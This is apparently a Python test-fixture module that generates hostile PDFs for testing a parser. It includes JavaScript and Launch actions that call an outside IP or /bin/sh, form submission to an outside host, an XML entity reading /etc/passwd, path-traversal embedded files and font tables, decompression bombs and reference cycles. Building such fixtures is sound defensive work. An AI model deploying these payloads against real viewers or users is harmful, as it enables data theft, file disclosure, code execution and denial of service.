"""PDFs that mean harm."""

import zlib
from collections.abc import Callable, Iterator, Mapping

from tests.hostile.office import OUTSIDE

FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
WORDS = b"BT /F 11 Tf 72 700 Td (It is recommended that the force rings first.) Tj ET"
PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
USUAL = {
    1: "<</Type/Catalog/Pages 2 0 R>>",
    2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    3: PAGE,
    5: FONT,
}

Objects = Mapping[int, str | bytes]


def stream(content: bytes, told: str = "", length: str = "") -> bytes:
    return f"<<{told}/Length {length or len(content)}>>stream\n".encode() + content + b"\nendstream"


def flate(content: bytes, told: str = "") -> bytes:
    return stream(zlib.compress(content, 9), f"/Filter/FlateDecode{told}")


def pdf(
    others: Objects | None = None, *, words: bytes | None = None, trailer: str = "/Root 1 0 R", after: bytes = b""
) -> bytes:
    """A PDF of these objects beside the usual ones of a page."""
    objects: dict[int, str | bytes] = USUAL | {4: stream(WORDS) if words is None else words} | dict(others or {})
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, content in objects.items():
        places[number] = len(out)
        out += (
            f"{number} 0 obj\n".encode() + (content if isinstance(content, bytes) else content.encode()) + b"\nendobj\n"
        )
    begins, last = len(out), max(places) + 1
    out += f"xref\n0 {last}\n0000000000 65535 f \n".encode()
    out += b"".join(
        b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 65535 f \n" for n in range(1, last)
    )
    out += f"trailer\n<</Size {last}{trailer}>>\nstartxref\n{begins}\n%%EOF\n".encode()
    return bytes(out) + after


def layered(content: bytes, layers: int) -> bytes:
    for _ in range(layers):
        content = zlib.compress(content, 9)
    return stream(content, f"/Filter[{'/FlateDecode' * layers}]")


def font(told: str, **others: bytes) -> Objects:
    return {5: f"<</Type/Font/Subtype/{told}>>", **{int(name[1:]): content for name, content in others.items()}}


def composite(told: str, cmap: str = "/Identity-H") -> Objects:
    return {
        5: f"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding {cmap}/DescendantFonts[6 0 R]{told}>>",
        6: "<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>/FontDescriptor 7 0 R>>",
        7: "<</Type/FontDescriptor/FontName/A/Flags 4>>",
    }


def pages(number: int) -> Objects:
    kids = " ".join(f"{n} 0 R" for n in range(10, 10 + number))
    return {2: f"<</Type/Pages/Kids[{kids}]/Count {number}>>"} | dict.fromkeys(range(10, 10 + number), PAGE)


def cross_reference_stream(told: str, content: bytes) -> bytes:
    body = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    return (
        body
        + b"9 0 obj\n"
        + stream(content, f"/Type/XRef/Root 1 0 R{told}")
        + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(body)
    )


def cases() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    """What each does, the name it comes under, and what makes it."""
    runs = {
        "a script": {
            1: "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL('http://203.0.113.7'))>>>>"
        },
        "a launch": {1: "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)>>>>"},
        "an address": {1: f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI({OUTSIDE})>>>>"},
        "a form that is sent": {
            1: f"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 6 0 R>>/OpenAction<</S/SubmitForm/F({OUTSIDE})>>>>",
            6: stream(b"<!DOCTYPE x SYSTEM 'file:///etc/passwd'><x/>"),
        },
        "a file within": {
            1: "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(x.exe)6 0 R]>>>>>>",
            6: "<</Type/Filespec/F(../../x.exe)/EF<</F 7 0 R>>>>",
            7: stream(b"MZ"),
        },
        "words kept outside": {4: f"<</Length 0/F({OUTSIDE})/FFilter/FlateDecode>>stream\n\nendstream"},
        "words kept in a file": {4: "<</Length 0/F(/etc/passwd)>>stream\n\nendstream"},
        "pages in a ring": {2: "<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"},
        "pages among pages": {
            2: "<</Type/Pages/Kids[6 0 R]/Count 1>>",
            6: "<</Type/Pages/Kids[7 0 R 7 0 R]/Parent 2 0 R/Count 2>>",
            7: "<</Type/Pages/Kids[6 0 R 3 0 R]/Parent 6 0 R/Count 2>>",
        },
        "a page that is its own parent": {
            3: PAGE.replace("/Parent 2 0 R", "/Parent 3 0 R"),
            2: "<</Type/Pages/Kids[3 0 R]/Count 1/Parent 2 0 R>>",
        },
        "the same page a thousand times": {2: f"<</Type/Pages/Kids[{'3 0 R ' * 1_000}]/Count 1000>>"},
        "a count that is not so": {2: "<</Type/Pages/Kids[3 0 R]/Count 2147483648>>"},
        "a page as large as the world": {3: PAGE.replace("595 842", "1e30 1e30")},
        "a page of no size": {3: PAGE.replace("595 842", "0 0")},
        "a page of no number": {3: PAGE.replace("595 842", "/a (b)")},
        "a deep page tree": {2: "<</Type/Pages/Kids[10 0 R]/Count 1>>"}
        | {n: f"<</Type/Pages/Parent {n - 1} 0 R/Kids[{n + 1} 0 R]/Count 1>>" for n in range(10, 3_000)}
        | {3_000: PAGE},
        "a length that is itself": {4: stream(WORDS, length="4 0 R")},
        "a length in a ring": {4: stream(WORDS, length="6 0 R"), 6: "7 0 R", 7: "6 0 R"},
        "a length that is negative": {4: stream(WORDS, length="-5")},
        "a length past the end": {4: stream(WORDS, length="99999999999")},
        "a drawing within itself": {
            3: PAGE.replace("/Font", "/XObject<</X 6 0 R>>/Font"),
            4: stream(b"/X Do " + WORDS),
            6: stream(b"/X Do /X Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"),
        },
        "drawings that double": {3: PAGE.replace("/Font", "/XObject<</X 10 0 R>>/Font"), 4: stream(b"/X Do " + WORDS)}
        | {
            n: stream(
                b"/X Do /X Do", f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {n + 1} 0 R>>>>"
            )
            for n in range(10, 40)
        }
        | {40: stream(b"", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]")},
        "an object stream without end": {
            6: flate(b" ".join(b"%d 0" % n for n in range(100_000)), "/Type/ObjStm/N 1000000000/First 600000")
        },
        "object streams in a ring": {6: stream(b"7 0 <<>>", "/Type/ObjStm/N 1/First 4/Extends 6 0 R")},
        "a picture as large as a house": {
            3: PAGE.replace("/Font", "/XObject<</X 6 0 R>>/Font"),
            4: stream(b"/X Do " + WORDS),
            6: flate(
                bytes(5_000_000),
                "/Type/XObject/Subtype/Image/Width 2147483647/Height 2147483647/BitsPerComponent 8/ColorSpace/DeviceRGB",
            ),
        },
        "words in a picture's code": {
            3: PAGE.replace("/Font", "/XObject<</X 6 0 R>>/Font"),
            4: stream(b"/X Do " + WORDS),
            6: stream(b"\xff" * 5_000, "/Type/XObject/Subtype/Image/Width 9/Height 9/Filter/JBIG2Decode"),
        },
        "a table of characters from the disk": composite("", "/../../../../../../tmp/evil"),
        "a table by a climbing name": composite("", "/#2e#2e#2f#2e#2e#2ftmp#2fevil"),
        "a table that uses itself": composite("", "8 0 R")
        | {8: stream(b"/A usecmap begincmap endcmap", "/Type/CMap/CMapName/A/UseCMap 8 0 R")},
        "characters without end": composite("/ToUnicode 8 0 R")
        | {
            8: stream(
                b"begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange 1 beginbfrange <00000000> <FFFFFFFF> <0000> endbfrange endcmap"
            )
        },
        "codes without end": composite("/ToUnicode 8 0 R")
        | {8: stream(b"begincmap 1 begincidrange <00000000> <7FFFFFFF> 0 endcidrange endcmap")},
        "widths without end": composite("")
        | {
            6: "<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>/FontDescriptor 7 0 R/W[0 2147483647 500]>>"
        },
        "a broken font": font("TrueType/BaseFont/A/FontDescriptor 6 0 R")
        | {
            6: "<</Type/FontDescriptor/FontName/A/Flags 4/FontFile2 7 0 R>>",
            7: stream(b"\0\1\0\0\xff\xff" + b"\xff" * 5_000),
        },
        "a broken outline font": font("Type1/BaseFont/A/FontDescriptor 6 0 R")
        | {
            6: "<</Type/FontDescriptor/FontName/A/Flags 4/FontFile 7 0 R>>",
            7: stream(b"%!PS-AdobeFont /Encoding 256 array dup 99999999 /x put " * 500, "/Length1 27500"),
        },
        "a broken compact font": font("Type1/BaseFont/A/FontDescriptor 6 0 R")
        | {
            6: "<</Type/FontDescriptor/FontName/A/Flags 4/FontFile3 7 0 R>>",
            7: stream(b"\1\0\4\4" + b"\xff" * 5_000, "/Subtype/Type1C"),
        },
        "a font drawn with itself": font(
            "Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/Encoding<</Differences[0/a]>>/Resources<</Font<</F 5 0 R>>>>/FirstChar 0/LastChar 0/Widths[9]",
            _6=stream(b"BT /F 9 Tf (\\0) Tj ET"),
        ),
        "a font that is not there": {3: PAGE.replace("5 0 R", "99 0 R")},
        "names of letters without end": font(f"Type1/BaseFont/A/Encoding<</Differences[0{'/a' * 200_000}]>>"),
        "an outline in a ring": {
            1: "<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>",
            6: "<</First 6 0 R/Next 6 0 R/Last 6 0 R>>",
        },
        "notes in a ring": {
            3: PAGE.replace("/Contents", "/Annots[6 0 R]/Contents"),
            6: "<</Type/Annot/Subtype/Popup/Parent 6 0 R/Rect[0 0 9 9]>>",
        },
        "lists in lists": {6: "[" * 50_000 + "]" * 50_000, 3: PAGE.replace("/Contents", "/X 6 0 R/Contents")},
        "dictionaries in dictionaries": {
            6: "<</a " * 50_000 + ">>" * 50_000,
            3: PAGE.replace("/Contents", "/Annots 6 0 R/Contents"),
        },
        "a colour space in a ring": {
            3: PAGE.replace("/Font", "/ColorSpace<</C 6 0 R>>/Font"),
            6: "[/Indexed 6 0 R 255 6 0 R]",
            4: stream(b"/C cs 1 sc " + WORDS),
        },
    }
    for what, objects in runs.items():
        yield what, "a.pdf", lambda objects=objects: pdf(objects)
    words = {
        "a bomb": lambda: flate(bytes(1_000_000_000 // 4)),
        "a bomb of words": lambda: flate(WORDS + b" " * 100_000_000),
        "a bomb in a bomb": lambda: layered(bytes(20_000_000), 4),
        "a bomb of runs": lambda: stream(b"\x81x" * 1_000_000, "/Filter/RunLengthDecode"),
        "a bomb of hexadecimals": lambda: stream(b"2 " * 2_000_000, "/Filter/ASCIIHexDecode"),
        "a bomb of letters": lambda: stream(b"z" * 5_000_000, "/Filter/ASCII85Decode"),
        "a bomb of tables": lambda: stream(bytes(range(256)) * 8_000, "/Filter/LZWDecode"),
        "a filter that foretells": lambda: flate(bytes(1_000), "/DecodeParms<</Predictor 12/Columns 2147483647>>"),
        "filters without end": lambda: stream(WORDS, f"/Filter[{'/ASCIIHexDecode' * 20_000}]"),
        "a filter that is none": lambda: stream(WORDS, "/Filter/Crypt"),
        "a damaged stream": lambda: stream(zlib.compress(WORDS)[:-9], "/Filter/FlateDecode"),
        "states in states": lambda: flate(b"q " * 50_000 + WORDS),
        "numbers without end": lambda: flate(b"1 " * 200_000 + WORDS),
        "one number without end": lambda: flate(b"9" * 3_000_000 + b" Td " + WORDS),
        "brackets without end": lambda: flate(b"(" * 100_000 + WORDS),
        "lists among the words": lambda: flate(b"[" * 200_000 + WORDS),
        "letters without end": lambda: flate(b"BT /F 1 Tf " + b"(abcdefghij) Tj " * 6_000 + b"ET"),
        "letters on letters": lambda: flate(b"BT /F 9 Tf 72 700 Td " + b"0 0 Td (a) Tj " * 10_000 + b"ET"),
        "rules without end": lambda: flate(b"".join(b"%d 0 m %d 800 l S " % (n % 600, n % 600) for n in range(8_000))),
        "a grid of fine rules": lambda: flate(
            b"".join(b"%d 50 m %d 800 l S 50 %d m 550 %d l S " % (n, n, n, n) for n in range(50, 550, 7)) + WORDS
        ),
        "boxes upon boxes": lambda: flate(WORDS + b"1 g " + b"0 0 600 800 re f " * 5_000),
        "a line of a million corners": lambda: flate(b"0 0 m " + b"1 1 l " * 40_000 + b"S " + WORDS),
        "a picture in the words": lambda: flate(b"BI /W 9 /H 9 ID " + b"EI" * 50_000 + WORDS),
        "sizes beyond all size": lambda: stream(b"1e300 0 0 1e300 0 0 cm " * 9 + WORDS),
        "no words": lambda: stream(b""),
    }
    for what, content in words.items():
        yield f"{what} in a PDF", "a.pdf", lambda content=content: pdf(words=content())
    yield "a hundred thousand pages", "a.pdf", lambda: pdf(pages(100_000), words=stream(b""))
    yield "a list of objects that goes back to itself", "a.pdf", lambda: pdf(trailer="/Root 1 0 R/Prev 9")
    yield (
        "lists of objects in a ring",
        "a.pdf",
        lambda: pdf(after=b"xref\n0 0\ntrailer\n<</Root 1 0 R/Prev 620>>\nstartxref\n620\n%%EOF"),
    )
    yield (
        "a list of objects without end",
        "a.pdf",
        lambda: cross_reference_stream("/Size 2147483647/W[1 4 2]/Index[0 2147483647]", bytes(70)),
    )
    yield (
        "a list of objects of great width",
        "a.pdf",
        lambda: cross_reference_stream("/Size 9/W[2147483647 2147483647 1]", bytes(70)),
    )
    yield "no list of objects", "a.pdf", lambda: pdf()[: pdf().index(b"xref")]
    yield "many objects and no list", "a.pdf", lambda: b"%PDF-1.7\n" + b"1 0 obj\n<<>>\nendobj\n" * 10_000
    yield (
        "a lock of an unknown kind",
        "a.pdf",
        lambda: pdf(trailer="/Root 1 0 R/Encrypt<</Filter/X/V 99/R 99>>/ID[(a)(b)]"),
    )
    yield "a lock that takes for ever", "a.pdf", lambda: pdf(trailer="/Root 1 0 R/Encrypt<</Filter/Standard/V 5/R 6/Length 256/P -1/O(" + "a" * 48 + ")/U(" + "b" * 48 + ")/OE(" + "c" * 32 + ")/UE(" + "d" * 32 + ")/CF<</StdCF<</CFM/AESV3>>>>/StmF/StdCF/StrF/StdCF>>/ID[(a)(b)]")  # fmt: skip
    yield "a root that is not there", "a.pdf", lambda: pdf(trailer="/Root 99 0 R")
    yield "half a PDF", "a.pdf", lambda: pdf()[:300]
    yield "a PDF behind other things", "a.pdf", lambda: b"x" * 1_000 + pdf()
    yield "a PDF that is a page as well", "a.pdf", lambda: b"<html><script>alert(1)</script>" + pdf()
